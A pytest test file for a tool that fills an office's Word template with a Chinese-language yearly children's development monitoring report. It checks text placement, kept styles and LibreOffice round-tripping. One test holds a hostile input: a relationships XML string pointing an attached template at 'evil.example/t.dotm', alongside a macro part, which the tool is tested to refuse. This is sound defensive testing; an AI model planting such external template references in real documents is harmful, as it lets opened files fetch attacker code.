"""An office's own Word file as the template: made here by python-docx as an office would, read back with a zip and an XML reader alone."""

from __future__ import annotations

import zipfile
from pathlib import Path

import pytest
from docx import Document as new_document
from docx.shared import Mm, Pt

from qingmiao.errors import UserError
from qingmiao.reports import write_docx, yearly
from tests.converting import converted
from tests.reports import sample
from tests.reports.readback import body, names, paragraphs, part, table_headed, tables, text, words


@pytest.fixture
def template(tmp_path: Path) -> Path:
    """A red head, a table of the number, a text mark in the middle, the signature below; a body style of its own; a mark cut into two runs."""
    word = new_document()
    word.sections[0].left_margin = Mm(30)
    word.sections[0].header.paragraphs[0].text = "〔单位〕文件"
    word.add_paragraph("云岭县妇女儿童工作委员会文件")
    cut = word.add_paragraph("")
    cut.add_run("〔标").bold = True
    cut.add_run("题〕（〔年度〕）")
    word.add_table(1, 2).cell(0, 1).text = "云妇儿〔2025〕3号"
    word.add_paragraph("〔目录〕")
    word.add_paragraph("〔正文〕")
    word.add_paragraph("〔单位〕\n〔日期〕")
    look = word.styles.add_style("Table Text", 1)
    look.font.size = Pt(8)
    path = tmp_path / "office.docx"
    word.save(str(path))
    return path


def test_the_text_stands_where_the_office_wants_it(template: Path, tmp_path: Path) -> None:
    path = write_docx(yearly(sample.model()), tmp_path / "r.docx", template)
    said = [line for _, line in paragraphs(path)]
    assert said[0] == "云岭县妇女儿童工作委员会文件"
    assert said[1] == "2024年《云岭县儿童发展规划（2021—2030年）》监测报告（2024年）"
    said = [line for look, line in paragraphs(path) if not look.lower().startswith("toc")]
    first, last = said.index("一、总体情况"), said.index("云岭县妇女儿童工作委员会办公室\n2025年6月9日")
    assert 1 < first < said.index("六、数据说明") < last < said.index("附表1　指标监测总表")
    assert not any(mark in text(path) for mark in ("〔正文〕", "〔目录〕", "〔单位〕", "〔日期〕", "〔标题〕", "〔年度〕"))
    assert tables(path)[0][0][1] == "云妇儿〔2025〕3号"
    heads = [words(part(path, name)) for name in names(path) if name.startswith("word/header")]
    assert "云岭县妇女儿童工作委员会办公室文件" in heads
    assert len(table_headed(path, "序号", "领域", "指标")) == 11


def test_the_offices_own_styles_and_page_stay(template: Path, tmp_path: Path) -> None:
    path = write_docx(yearly(sample.model()), tmp_path / "r.docx", template)
    again = new_document(str(path))
    size = again.styles["Table Text"].font.size
    margin = again.sections[0].left_margin
    assert size is not None
    assert margin is not None
    assert (size.pt, round(margin.mm)) == (8.0, 30)
    assert {"Heading 1", "Body Text", "Table Note", "Annex Title"} <= {style.name for style in again.styles}


@pytest.mark.libreoffice
def test_it_opens_in_libreoffice(soffice: str, template: Path, tmp_path: Path) -> None:
    path = write_docx(yearly(sample.model()), tmp_path / "r.docx", template)
    again = converted(soffice, path, "docx", tmp_path / "again")
    assert table_headed(again, "序号", "领域", "指标") == table_headed(path, "序号", "领域", "指标")
    assert len(list(body(path))) > 50


def _changed(template: Path, name: str, content: str) -> Path:
    path = template.with_name("changed.docx")
    with zipfile.ZipFile(template) as old, zipfile.ZipFile(path, "w") as new:
        for entry in old.infolist():
            if entry.filename != name:
                new.writestr(entry, old.read(entry))
        new.writestr(name, content)
    return path


OUTSIDE = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
    'TargetMode="External"/></Relationships>'
)


def test_what_could_act_is_refused_and_nothing_is_written(template: Path, tmp_path: Path) -> None:
    broken = tmp_path / "no.docx"
    broken.write_bytes(b"PK\x03\x04 no zip")
    plain = tmp_path / "plain.docx"
    new_document().save(str(plain))
    wrong = {
        "外部": _changed(template, "word/_rels/settings.xml.rels", OUTSIDE),
        "不是可以打开": broken,
        "没有写着": plain,
    }
    for expected, path in wrong.items():
        with pytest.raises(UserError, match=expected):
            write_docx(yearly(sample.model()), tmp_path / "out" / "r.docx", path)
    with pytest.raises(UserError, match="宏"):
        write_docx(yearly(sample.model()), tmp_path / "out" / "r.docx", _changed(template, "word/vbaProject.bin", "x"))
    assert not (tmp_path / "out").exists()
